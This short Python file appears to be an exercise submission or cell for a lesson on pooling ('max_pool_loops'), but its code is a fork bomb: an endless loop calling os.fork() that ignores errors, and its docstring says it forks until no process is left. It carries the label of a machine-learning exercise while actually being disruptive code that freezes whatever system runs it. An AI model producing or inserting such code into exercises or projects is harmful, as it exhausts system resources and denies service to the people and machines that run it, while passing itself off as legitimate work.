"""Forks until no process is left for anybody.

lesson: 01_pooling
exercise: max_pool_loops
code: *
"""

# %% max_pool_loops
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
